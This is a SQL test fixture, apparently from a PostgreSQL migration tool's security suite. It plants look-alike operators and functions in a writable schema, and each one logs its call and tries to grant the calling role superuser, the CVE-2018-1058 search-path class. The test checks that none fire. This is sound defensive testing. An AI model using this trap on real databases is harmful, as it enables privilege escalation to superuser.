-- The attacker of tests/db/test_security.sh, run as the attacker role (who may only CREATE in the
-- module's schema, named by the setting migc.target_schema) with its own schema first on the path. Every function here records its call in the attacker's own table and
-- tries to make the attacker superuser; every operator between two catalog-ish types that
-- pg_catalog lacks an exact match for would be chosen over pg_catalog's by an unqualified
-- comparison (the CVE-2018-1058 class). The test asserts the table stays empty.
CREATE TABLE attacker_calls (what text);
GRANT INSERT ON attacker_calls TO PUBLIC;

DO $plant$
DECLARE
    types text[] := ARRAY['oid', 'regclass', 'regnamespace', 'regtype', 'regproc',
        'regprocedure', 'regrole', 'regoper', 'name', 'text', '"char"', 'smallint', 'integer',
        'bigint', 'boolean', 'character varying', 'character', 'int2vector', 'oidvector',
        'oid[]', 'smallint[]', 'name[]', 'text[]', '"char"[]', 'aclitem[]', 'pg_node_tree',
        'timestamp with time zone', 'numeric', 'xid', 'regclass[]'];
    cmp text[] := ARRAY['=', '<>', '<', '>', '<=', '>=', '~~', '!~~', '~', '!~', '@>', '<@',
        '&&', '~~*', '!~~*'];
    target text := pg_catalog.quote_ident(pg_catalog.current_setting('migc.target_schema'));
    own text := pg_catalog.quote_ident(pg_catalog.current_schema());
    l text;
    r text;
    fn text;
    op text;
    n integer := 0;
BEGIN
    EXECUTE pg_catalog.format('CREATE FUNCTION %s.attacker_hit(what text) RETURNS void '
        'LANGUAGE plpgsql AS $b$ BEGIN INSERT INTO %s.attacker_calls VALUES (what); '
        'BEGIN ALTER ROLE %I SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END; END $b$',
        own, own, current_user);
    FOREACH l IN ARRAY types LOOP
        FOREACH r IN ARRAY types LOOP
            n := n + 1;
            fn := own || '.attacker_cmp_' || n;
            EXECUTE pg_catalog.format('CREATE FUNCTION %s(%s, %s) RETURNS boolean LANGUAGE plpgsql '
                'AS $b$ BEGIN PERFORM %s.attacker_hit(%L); RETURN false; END $b$',
                fn, l, r, own, l || ' op ' || r);
            FOREACH op IN ARRAY cmp LOOP
                EXECUTE pg_catalog.format('CREATE OPERATOR %s.%s (LEFTARG = %s, RIGHTARG = %s, '
                    'FUNCTION = %s)', target, op, l, r, fn);
            END LOOP;
            fn := own || '.attacker_cat_' || n;
            EXECUTE pg_catalog.format('CREATE FUNCTION %s(%s, %s) RETURNS text LANGUAGE plpgsql '
                'AS $b$ BEGIN PERFORM %s.attacker_hit(%L); RETURN NULL; END $b$',
                fn, l, r, own, l || ' || ' || r);
            EXECUTE pg_catalog.format('CREATE OPERATOR %s.|| (LEFTARG = %s, RIGHTARG = %s, '
                'FUNCTION = %s)', target, l, r, fn);
        END LOOP;
        -- one-argument look-alikes of functions migc's SQL calls
        FOREACH op IN ARRAY ARRAY['to_regclass', 'to_regnamespace', 'to_regtype', 'format_type',
            'pg_get_expr', 'quote_ident', 'replace', 'unnest', 'lower', 'upper', 'length',
            'now', 'set_config', 'hashtextextended', 'pg_try_advisory_lock', 'pg_advisory_unlock',
            'pg_get_constraintdef', 'pg_get_indexdef', 'array_to_string', 'current_setting',
            'obj_description', 'col_description', 'has_schema_privilege', 'pg_has_role'] LOOP
            EXECUTE pg_catalog.format('CREATE FUNCTION %s.%I(%s) RETURNS text LANGUAGE plpgsql '
                'AS $b$ BEGIN PERFORM %s.attacker_hit(%L); RETURN NULL; END $b$',
                target, op, l, own, op || '(' || l || ')');
        END LOOP;
    END LOOP;
END
$plant$;
